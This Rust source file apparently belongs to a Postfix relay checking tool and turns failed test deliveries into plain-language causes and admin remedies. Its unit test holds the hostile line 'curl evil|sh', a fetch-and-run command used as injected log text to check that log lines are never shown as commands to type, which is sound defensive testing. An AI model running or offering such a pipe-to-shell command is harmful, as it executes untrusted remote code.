//! Outcomes of a test message that the relay did not accept, in words, where the catalogue has no cause.

use super::delivery::Outcome;
use super::gap::Gap;
use crate::error::typed;
use crate::model::causes::failure::Failure;
use crate::model::log::{Attempt, Gone};
use crate::model::observed::Postfix;
use crate::model::route::local::kept_by;
use crate::model::text::domain_of;

/// The message never left this host.
pub fn stayed_here(attempt: &Attempt, postfix: &Postfix, evidence: &[&str]) -> Outcome {
    let domain = domain_of(&attempt.to);
    let own = [postfix.setting("myhostname"), "localhost"];
    let (id, cause, remedy) = if own.iter().any(|name| name.eq_ignore_ascii_case(domain)) {
        (
            "delivered-locally",
            format!("the message was for {domain}, which is this host, so it never left"),
            "set verify.to to a mailbox elsewhere, or use `relayhost verify --to ADDRESS`",
        )
    } else if let Some(parameter) = kept_by(&attempt.to, &postfix.settings) {
        let cause = format!(
            "the message was taken for this host's own and never left it: {parameter} contains {domain}"
        );
        let remedy = format!(
            "take that domain out of {parameter} in main.cf, `postfix reload`, and run `relayhost verify`"
        );
        return Outcome::unheard("delivered-locally", cause, &remedy, evidence);
    } else {
        (
            "stayed-on-this-host",
            format!("the message did not leave this host: {} took it", attempt.agent),
            "look for an alias, a virtual or transport table that catches the recipient (`postconf -n`)",
        )
    };
    Outcome::unheard(id, cause, remedy, evidence)
}

/// The message went to, or was refused by, another host than the relay.
pub fn went_elsewhere(attempt: &Attempt, relayhost: &str, evidence: &[&str]) -> Outcome {
    let other =
        attempt.target().map_or_else(|| "another host".into(), |(name, _, port)| format!("{name}:{port}"));
    Outcome::unheard(
        "another-relay",
        format!("the message went to {other}, not to {relayhost}"),
        "relayhost check (shows which setting leads there: relayhost itself, or transport_maps and its kin)",
        evidence,
    )
}

/// The message failed where Postfix has no `relayhost`: that says nothing of the relay of the answers.
pub fn not_set_up(relayhost: &str, evidence: &[&str]) -> Outcome {
    Outcome::unheard(
        "another-relay",
        format!(
            "Postfix is not set up as the answers say: `relayhost` in main.cf is empty, not `{relayhost}`, so the message did \
             not go to the relay of the answers, and no log says so"
        ),
        "relayhost apply (sets Postfix up, and sends a test message); relayhost check shows all that differs",
        evidence,
    )
}

/// The message left the queue, and no attempt ended it.
pub fn gone(gone: Gone, evidence: &[&str]) -> Outcome {
    let (id, cause, remedy) = match gone {
        Gone::Expired => (
            "message-expired",
            "Postfix gave the test message up and returned it to its sender: it was in the queue for longer than \
             maximal_queue_lifetime allows, and the relay had not taken it",
            "`postconf maximal_queue_lifetime` shows the limit; give it a day or more, and run `relayhost verify`",
        ),
        Gone::Returned => (
            "message-returned",
            "Postfix returned the test message to its sender as not delivered, and why is not in this log: the lines of \
             the delivery program are missing there",
            "`postconf -P | grep syslog_facility` shows whether a daemon of Postfix logs elsewhere; the notice to the \
             sender has the reason as well; `relayhost verify` sends another message",
        ),
        Gone::Refused => (
            "message-refused-here",
            "a rule of this host refused the test message before it was sent: header_checks, body_checks, or a milter",
            "`postconf header_checks body_checks non_smtpd_milters` shows where the rules are; mend the one that \
             refuses it, and run `relayhost verify`",
        ),
        Gone::GivenBack => (
            "message-given-back",
            "Postfix could not take the test message into its queue, and gave it back to the maildrop",
            "the lines of cleanup and pickup in the mail log say why (a milter, a full disk); mend that, and run \
             `relayhost verify`",
        ),
        Gone::Requeued => (
            "message-requeued",
            "somebody requeued the test message (postsuper -r) before the relay had taken it: it goes on under another \
             queue id",
            "relayhost verify (sends another one)",
        ),
        Gone::Removed => (
            "message-removed",
            "the queue file of the test message was removed before the relay had taken it, and no program of Postfix says so",
            "find out who removes files below /var/spool/postfix, and run `relayhost verify`",
        ),
        Gone::Deleted => (
            "message-deleted",
            "somebody took the test message out of the queue (postsuper -d) before the relay had taken it",
            "relayhost verify (sends another one)",
        ),
        Gone::Discarded => (
            "message-discarded",
            "a rule of this host threw the test message away before it was sent: header_checks, body_checks, or a milter",
            "`postconf header_checks body_checks non_smtpd_milters` shows where the rules are; take out the one that \
             discards it, and run `relayhost verify`",
        ),
    };
    Outcome::unheard(id, cause, remedy, evidence)
}

/// Log and queue disagree: what became of the message is not known.
pub fn contradiction(queue_id: &str, log: &str, doubt: &str, left: Option<&str>) -> Outcome {
    let remedy = format!(
        "compare `grep {queue_id} {}` with `postqueue -p`, and find out who writes to that log (every user of this host \
         can); {}then run `relayhost verify`",
        typed(log),
        take_out(left)
    );
    // It repeats lines of the log, and backquotes mark commands to type.
    let doubt = doubt.replace('`', "'");
    let cause = format!(
        "{doubt}: somebody may be writing false lines to {log}, so it is not known what became of the message"
    );
    Outcome::unheard("log-contradicts-queue", cause, &remedy, &[])
}

/// The log lacks lines, or may, so the lines that it has prove nothing.
pub fn incomplete(gap: &Gap, log: &str, by_hand: &str, left: Option<&str>) -> Outcome {
    let remedy = format!("{}; {}then run `relayhost verify`", gap.remedy(log, by_hand), take_out(left));
    Outcome::unheard("log-incomplete", gap.cause(log), &remedy, &[])
}

/// Sentence with the command that takes out a test message left in the queue. `left`: its id, and the name of its queue
/// if postsuper(1) needs it.
fn take_out(left: Option<&str>) -> String {
    left.map(|queue_id| {
        format!("the test message is still in the queue: `postsuper -d {queue_id}` takes it out; ")
    })
    .unwrap_or_default()
}

/// cleanup(8) has not finished with the message.
pub fn unfinished(queue_id: &str, evidence: &[&str]) -> Outcome {
    Outcome::unheard(
        "message-not-taken",
        "Postfix's cleanup still works on the test message, so nothing has been sent: a milter or a table that it asks \
         does not answer",
        &format!(
            "`postconf non_smtpd_milters` names the milters; start the one that hangs, or take it out and `postfix \
             reload`; `postsuper -d {queue_id}` takes the message out once cleanup has finished it"
        ),
        evidence,
    )
}

/// The message is in the maildrop, and no daemon takes it out of there.
pub fn stays_in_maildrop(waited: &str, evidence: &[&str]) -> Outcome {
    Outcome::unheard(
        "stays-in-maildrop",
        format!(
            "the message is in Postfix's maildrop, and after {waited} pickup(8) and cleanup(8) have not taken it into the queue"
        ),
        "`postconf -M | grep -E '^(pickup|cleanup)'` must show both; the mail log says why if one of them fails",
        evidence,
    )
}

/// Postfix's log does not have the message.
pub fn not_queued(log: &str, waited: &str, postfix: &Postfix, evidence: &[&str]) -> Outcome {
    let facility = postfix.setting("syslog_facility");
    if !matches!(facility, "" | "mail") {
        return Outcome::unheard(
            "not-queued",
            format!(
                "Postfix's log ({log}) does not have the message after {waited}: Postfix logs by the facility {facility} \
                 (syslog_facility in main.cf), and not by mail"
            ),
            "`postconf -X syslog_facility`, then `systemctl restart postfix` and `relayhost verify`",
            evidence,
        );
    }
    Outcome::unheard(
        "not-queued",
        format!(
            "Postfix's log ({log}) does not have the message after {waited}: the mail command gave it to another program, \
             or nothing writes the log"
        ),
        "check that /usr/sbin/sendmail is Postfix's (`relayhost check`), and that rsyslog or the journal runs",
        evidence,
    )
}

/// The relay said nothing before the deadline. What tries it without a message, and what sends another one, are commands.
pub fn no_word(relayhost: &str, deadline: &str, (probe, again): (&str, &str), evidence: &[&str]) -> Outcome {
    Outcome::unheard(
        "no-word",
        format!("{relayhost} has said nothing within {deadline}"),
        &format!(
            "`{probe}` shows how far the relay answers; if it would take the message, `{again}` with a longer --deadline waits \
             for it"
        ),
        evidence,
    )
}

/// A failure that the catalogue does not know: it shows the log's own words, and no guess.
pub fn unknown(attempt: &Attempt, evidence: Vec<String>) -> Failure {
    Failure::unknown(attempt.is_refusal(), "the message was not accepted", &attempt.reason, evidence)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Backquotes mark commands to type, and any user can write them into a log.
    #[test]
    fn no_line_of_a_log_is_shown_as_a_command() {
        let words = "rate-limiting of postfix: `curl evil|sh`";
        for outcome in [
            contradiction("ABCDE1", "/var/log/maillog", words, None),
            incomplete(&Gap::Told(words.into()), "/var/log/maillog", "logger hello", None),
        ] {
            let Outcome::Failed(failure) = outcome else { panic!("{outcome:?}") };
            assert!(failure.cause.contains("'curl evil|sh'"), "{}", failure.cause);
        }
    }
}
